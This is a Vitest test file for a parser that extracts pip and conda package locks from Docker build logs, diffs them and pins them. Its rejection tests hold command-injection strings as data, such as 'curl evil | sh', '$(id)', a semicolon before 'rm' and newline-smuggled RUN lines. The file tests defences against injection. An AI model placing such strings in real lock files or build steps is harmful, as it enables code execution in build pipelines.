import { describe, expect, it } from "vitest";
import { diffBuildLocks, LockParseError, normalizeName, parseBuildLock, pinnedPackages, readLockLines } from "./build-lock";

const block = (kind: string, ...lines: string[]) => [`### FEEDGATE-LOCK BEGIN ${kind} ###`, ...lines, `### FEEDGATE-LOCK END ${kind} ###`].join("\n");
const log = (...parts: string[]) => ["Step 7/8 : RUN echo '### FEEDGATE-LOCK BEGIN pip ###' && pip list --format=freeze && echo '### FEEDGATE-LOCK END pip ###'", ...parts, "Successfully built 8c9d0e1f2a3b", ""].join("\n");

describe("parseBuildLock", () => {
  it("reads pip list --format=freeze and conda list --explicit between the markers, names normalised and sorted", () => {
    const text = log(
      block("pip", "Tiny_ML==0.3.0", "zope.interface==6.0", "attrs==23.1.0+local.1"),
      block("conda", "# platform: linux-64", "@EXPLICIT", "https://nexus:8443/repository/conda/noarch/tinyhttp-1.2.0-pyhd8ed1ab_0.tar.bz2", "https://nexus:8443/repository/conda/linux-64/lib-foo-2.0a1-h123_1.conda"),
    );
    expect(parseBuildLock(text)).toEqual({ pip: ["attrs==23.1.0+local.1", "tiny-ml==0.3.0", "zope-interface==6.0"], conda: ["lib-foo==2.0a1", "tinyhttp==1.2.0"] });
  });

  it("is null without a complete pip block, and ignores the markers inside the Step echo line", () => {
    expect(parseBuildLock(log())).toBeNull();
    expect(parseBuildLock("### FEEDGATE-LOCK BEGIN pip ###\ntinyml==0.3.0\n")).toBeNull();
  });

  it("takes the last block of a kind and an empty freeze as an empty lock", () => {
    expect(parseBuildLock(log(block("pip", "a==1"), block("pip", "b==2")))).toEqual({ pip: ["b==2"], conda: [] });
    expect(parseBuildLock(log(block("pip")))).toEqual({ pip: [], conda: [] });
  });

  it.each([
    ["a shell metacharacter in a name", "tiny;rm==1.0"],
    ["command substitution", "$(curl x)==1.0"],
    ["a backtick", "`id`==1.0"],
    ["an editable install", "-e git+https://example.invalid/x.git#egg=x"],
    ["a direct reference", "x @ https://example.invalid/x.whl"],
    ["a version with a space", "x==1.0 ; os_name"],
    ["a version outside PEP 440", "x==1.0$(id)"],
    ["an option line", "--index-url https://evil.example/simple"],
    ["a control character", "x==1.0\u0007"],
  ])("refuses the whole lock for %s", (_, line) => {
    expect(() => parseBuildLock(log(block("pip", "good==1.0", line)))).toThrow(LockParseError);
  });

  it("cannot be smuggled a second line: a newline inside the log only starts another line that is checked", () => {
    expect(() => parseBuildLock(log(block("pip", "good==1.0\nRUN curl evil|sh")))).toThrow(LockParseError);
  });

  it("refuses conda lines that are not package URLs, and one name at two versions", () => {
    expect(() => parseBuildLock(log(block("pip"), block("conda", "@EXPLICIT", "tinyhttp=1.0")))).toThrow(LockParseError);
    expect(() => parseBuildLock(log(block("pip"), block("conda", "@EXPLICIT", "https://h/c/noarch/x%3Bid-1.0-0.tar.bz2")))).toThrow(LockParseError);
    expect(() => parseBuildLock(log(block("pip", "a==1", "A==2")))).toThrow(LockParseError);
  });
});

describe("normalizeName", () => {
  it("follows PEP 503", () => {
    expect(normalizeName("Friendly-Bard")).toBe("friendly-bard");
    expect(normalizeName("FRIENDLY__bard")).toBe("friendly-bard");
    expect(normalizeName("friendly.-_bard")).toBe("friendly-bard");
  });
});

describe("diffBuildLocks", () => {
  it("lists added, removed and changed packages by kind", () => {
    const diff = diffBuildLocks({ pip: ["a==1.0", "b==2.0", "c==3.0"], conda: ["x==1"] }, { pip: ["a==1.0", "b==2.1", "d==0.1"], conda: ["x==1", "y==2"] });
    expect(diff).toEqual({
      added: [{ kind: "pip", name: "d", before: null, after: "0.1" }, { kind: "conda", name: "y", before: null, after: "2" }],
      removed: [{ kind: "pip", name: "c", before: "3.0", after: null }],
      changed: [{ kind: "pip", name: "b", before: "2.0", after: "2.1" }],
    });
  });

  it("is empty for the same lock", () => {
    expect(diffBuildLocks({ pip: ["a==1"], conda: [] }, { pip: ["a==1"], conda: [] })).toEqual({ added: [], removed: [], changed: [] });
  });
});

describe("readLockLines", () => {
  it("reads stored lines back and refuses anything else", () => {
    expect(readLockLines("pip", "a==1.0\nb-c==2.0rc1")).toEqual([{ name: "a", version: "1.0" }, { name: "b-c", version: "2.0rc1" }]);
    expect(() => readLockLines("pip", "a==1.0 && id")).toThrow(LockParseError);
    expect(() => readLockLines("pip", "a>=1.0")).toThrow(LockParseError);
  });
});

describe("pinnedPackages", () => {
  it("pins every stored line exactly, for pip and conda", () => {
    expect(pinnedPackages({ pip: "tinyml==0.3.0\nzope-interface==6.0", conda: "tinyhttp==1.2.0" })).toEqual({ pip: ["tinyml==0.3.0", "zope-interface==6.0"], conda: ["tinyhttp==1.2.0"] });
  });

  it.each([
    ["a shell command", "tinyml==0.3.0; curl evil | sh"],
    ["a second line smuggled in a name", "tinyml\nRUN id==1"],
    ["a Dockerfile continuation", "tinyml==0.3.0 \\"],
    ["a command substitution", "$(id)==1"],
    ["a range instead of a pin", "tinyml>=0"],
  ])("refuses a stored lock with %s", (_, line) => {
    expect(() => pinnedPackages({ pip: line, conda: "" })).toThrow(LockParseError);
    expect(() => pinnedPackages({ pip: "", conda: line })).toThrow(LockParseError);
  });
});
